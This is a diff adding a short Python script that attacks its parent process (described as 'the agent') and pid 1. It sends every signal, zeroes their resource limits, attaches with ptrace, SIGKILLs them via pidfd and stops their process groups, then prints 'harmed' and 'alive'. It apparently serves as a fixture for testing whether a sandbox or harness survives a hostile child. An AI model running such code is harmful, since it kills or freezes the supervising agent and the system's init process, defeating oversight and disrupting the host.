@@ -1,0 +1,35 @@
+# Everything that one process can do to another, done to the agent and to whatever else has a pid.
+import ctypes
+import os
+import resource
+import signal
+import time
+
+libc = ctypes.CDLL(None)
+for pid in {1, os.getppid()}:
+    for number in range(1, 65):
+        try:
+            os.kill(pid, number)
+        except (OSError, ValueError):
+            pass
+    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
+        try:
+            resource.prlimit(pid, limit, (0, 0))
+        except (OSError, ValueError):
+            pass
+    libc.ptrace(16, pid, 0, 0)
+    try:
+        handle = os.pidfd_open(pid)
+        for number in (signal.SIGSTOP, signal.SIGKILL):
+            signal.pidfd_send_signal(handle, number)
+    except OSError:
+        pass
+for group in (os.getppid(), 1):
+    try:
+        os.killpg(group, signal.SIGSTOP)
+    except OSError:
+        pass
+print("harmed", flush=True)
+time.sleep(1)
+print("alive", flush=True)
+os._exit(7)
